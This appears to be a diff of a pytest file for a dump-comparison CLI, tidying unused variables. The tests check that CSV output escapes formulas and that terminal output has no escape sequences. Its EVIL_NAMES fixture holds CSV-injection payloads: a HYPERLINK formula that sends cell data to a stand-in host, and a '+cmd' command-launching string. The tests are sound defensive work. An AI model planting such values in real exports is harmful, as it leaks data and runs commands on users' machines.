@@ -6,7 +6,6 @@ from __future__ import annotations
 
 import csv
 import io
-import json
 import os
 import re
 
@@ -22,8 +21,8 @@ EVIL_NAMES = ("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc
 def dump_pair(tmp_path):
     manifest = [{"name": f"{n}.output.0", "file": f"{i:04d}_a.output.0.npy" if i == 0 else f"{i % 2:04d}_b.output.0.npy"}
                 for i, n in enumerate(EVIL_NAMES)]
-    run = npy_dump(tmp_path / "run" / "dump", manifest=manifest)
-    base = npy_dump(tmp_path / "base" / "dump", manifest=manifest)
+    npy_dump(tmp_path / "run" / "dump", manifest=manifest)
+    npy_dump(tmp_path / "base" / "dump", manifest=manifest)
     return tmp_path / "run", tmp_path / "base"
 
 
@@ -35,7 +34,7 @@ def _one_line_usage(code, err):
 def test_compare_refuses_to_write_into_the_baseline(dump_pair, cli):
     run, base = dump_pair
     for target in (base / "dump" / "c.csv", base / "c.csv", run / "c.csv"):
-        code, out, err = cli("compare", run, base, "-o", target)
+        code, _out, err = cli("compare", run, base, "-o", target)
         _one_line_usage(code, err)
         assert not target.exists()
 
@@ -51,14 +50,14 @@ def test_output_that_cannot_be_written_is_a_usage_error(dump_pair, tmp_path, cli
         targets.append("/dev/full")
     for target in targets:
         extra = ["-f", "text"] if cmd == "diagnose" else []
-        code, out, err = cli(cmd, *args, "-o", target, *extra)
+        code, _out, err = cli(cmd, *args, "-o", target, *extra)
         _one_line_usage(code, err)
 
 
 def test_csv_cells_never_start_a_formula(dump_pair, tmp_path, cli):
     run, base = dump_pair
     out_csv = tmp_path / "table.csv"
-    code, out, err = cli("compare", run, base, "-o", out_csv)
+    code, _out, err = cli("compare", run, base, "-o", out_csv)
     assert code in (0, 1), err
     text = out_csv.read_text(encoding="utf-8")
     assert "\x1b" not in text
@@ -74,7 +73,7 @@ def test_csv_cells_never_start_a_formula(dump_pair, tmp_path, cli):
 
 def test_compare_terminal_summary_has_no_escape_sequences(dump_pair, cli):
     run, base = dump_pair
-    code, out, err = cli("compare", run, base)
+    _code, out, err = cli("compare", run, base)
     assert "\x1b" not in out + err and "\x07" not in out + err
 
 
@@ -112,5 +111,5 @@ def test_fifty_thousand_ignored_files_give_a_small_report(run_dir, cli):
     many.mkdir()
     for i in range(50_000):
         (many / f"{i}.txt").touch()
-    code, out, err = cli("diagnose", run_dir, "-f", "json")
+    code, out, _err = cli("diagnose", run_dir, "-f", "json")
     assert code == 0 and len(out) < 200_000
